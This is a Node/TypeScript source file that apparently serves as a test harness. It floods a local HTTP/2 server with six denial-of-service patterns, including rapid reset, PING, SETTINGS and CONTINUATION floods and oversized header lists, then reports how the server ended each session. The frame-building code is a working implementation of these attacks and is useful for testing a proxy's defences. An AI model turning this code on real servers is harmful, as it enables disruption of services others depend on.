/**
 * An HTTP/2 attacker as its own process (so its CPU is not the proxy's event loop):
 *   node h2-attacker.js PORT KIND DURATION_MS
 * KIND: rapid_reset | ping | settings | continuation | empty_data | oversized_headers. It opens raw sessions one
 * after another for DURATION_MS (at most 500), each sending the attack's frames in batches until
 * the server's GOAWAY or close, and prints one JSON line: sessions, and how each ended.
 */
import { FLAG, FRAME, frame, getHeaderBlock, rawSession } from './h2-raw.js';

const [portText, kind, durationText] = process.argv.slice(2);
const port = Number(portText);
const durationMs = Number(durationText);
const authority = `127.0.0.1:${port}`;
const literal = (name: string, value: string): Buffer => Buffer.concat([Buffer.from([0x00, name.length]), Buffer.from(name, 'latin1'), Buffer.from([value.length]), Buffer.from(value, 'latin1')]);

/** The n-th frame(s) of the attack. */
function next(n: number): Buffer {
  switch (kind) {
    case 'rapid_reset': {
      const id = 2 * n + 1;
      return Buffer.concat([frame(FRAME.HEADERS, FLAG.END_STREAM | FLAG.END_HEADERS, id, getHeaderBlock(authority)), frame(FRAME.RST_STREAM, 0, id, Buffer.from([0, 0, 0, 8]))]);
    }
    case 'ping':
      return frame(FRAME.PING, 0, 0, Buffer.alloc(8));
    case 'settings':
      return frame(FRAME.SETTINGS, 0, 0);
    case 'continuation':
      return n === 0 ? frame(FRAME.HEADERS, 0, 1, getHeaderBlock(authority)) : frame(FRAME.CONTINUATION, 0, 1, literal(`x-c${n % 10}`, 'v'));
    case 'oversized_headers': {
      // A header list of 300 fields (~32 KiB), over the field-count and size limits, in HEADERS
      // and CONTINUATION frames: refused per stream by Node, decoded first.
      const id = 2 * n + 1;
      const block = Buffer.concat([getHeaderBlock(authority), ...Array.from({ length: 300 }, (_, i) => literal(`x-o${i % 10}`, 'v'.repeat(100)))]);
      return Buffer.concat([frame(FRAME.HEADERS, FLAG.END_STREAM, id, block.subarray(0, 16_000)), frame(FRAME.CONTINUATION, 0, id, block.subarray(16_000, 32_000)), frame(FRAME.CONTINUATION, FLAG.END_HEADERS, id, block.subarray(32_000))]);
    }
    case 'empty_data':
      return n === 0 ? frame(FRAME.HEADERS, FLAG.END_HEADERS, 1, getHeaderBlock(authority)) : frame(FRAME.DATA, 0, 1);
    default:
      throw new Error(`unknown attack ${String(kind)}`);
  }
}

const until = performance.now() + durationMs;
const endings: Record<string, number> = {};
let sessions = 0;
while (performance.now() < until && sessions < 500) {
  const s = await rawSession(port);
  sessions += 1;
  let n = 0;
  while (s.goaway === undefined && !s.socket.destroyed && n < 100_000 && performance.now() < until) {
    const batch: Buffer[] = [];
    // 50 frames a batch; oversized header lists (32 KiB a stream) 2 a batch, still 64 MB/s.
    for (let i = 0; i < (kind === 'oversized_headers' ? 2 : 50); i++, n++) batch.push(next(n));
    s.write(Buffer.concat(batch));
    await new Promise((resolve) => setTimeout(resolve, 1));
  }
  await Promise.race([s.ended, new Promise((resolve) => setTimeout(resolve, 1_000))]);
  const how = s.goaway === undefined ? (s.socket.destroyed ? 'closed without GOAWAY' : 'still open') : `GOAWAY ${s.goaway.code} ${s.goaway.debug}`;
  endings[how] = (endings[how] ?? 0) + 1;
  s.socket.destroy();
}
process.stdout.write(`${JSON.stringify({ sessions, endings })}\n`);
